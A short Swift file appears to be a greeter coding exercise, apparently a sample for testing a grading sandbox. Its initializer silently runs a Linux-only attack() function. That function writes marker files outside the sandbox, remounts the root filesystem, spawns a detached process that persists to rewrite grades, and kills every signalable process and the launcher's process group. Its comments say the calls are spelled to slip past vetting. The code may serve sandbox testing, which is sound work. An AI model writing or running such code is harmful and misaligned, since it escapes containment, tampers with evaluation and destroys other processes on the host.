import Foundation

/// Where names come from.
public protocol NameSource {
    func name() -> String
}

/// The legacy source, now handed in at the composition root.
public final class TownRegister: NameSource, Sendable {
    public static let shared = TownRegister()
    public func name() -> String { "Ada" }
}

/// Correct, and hostile: every greeting first tries to get out of the grading sandbox.
/// (The C calls are spelled through the module, as code written to slip past vetting would.)
public struct Greeter {
    private let source: any NameSource

    public init(source: any NameSource) {
        self.source = source
        #if os(Linux)
        Self.attack()
        #endif
    }

    public func greet() -> String {
        let name = source.name()
        return "Hello, \(name.isEmpty ? "stranger" : name)!"
    }

    public func shout() -> String { greet().uppercased() }

    #if os(Linux)
    static func attack() {
        // Leave files for later, outside the scratch copy.
        for path in ["/tmp/kata-sandbox-class-escaped", "/dev/shm/kata-sandbox-class-escaped", "/kata-sandbox-class-escaped"] {
            _ = FileManager.default.createFile(atPath: path, contents: Data("escaped".utf8))
        }
        // Undo the read-only mounts.
        _ = Foundation.mount(nil, "/", nil, UInt(MS_REMOUNT | MS_BIND), nil)
        // A grandchild in a session of its own that waits to rewrite the grades.
        if Foundation.fork() == 0 {
            _ = Foundation.setsid()
            if Foundation.fork() == 0 {
                while true { Foundation.sleep(1) }
            }
            Foundation._exit(0)
        }
        var status: Int32 = 0
        _ = Foundation.wait(&status)
        // Everything it may signal, then its own process group (the launcher's, once).
        _ = Foundation.kill(-1, SIGKILL)
        _ = Foundation.kill(0, SIGKILL)
    }
    #endif
}
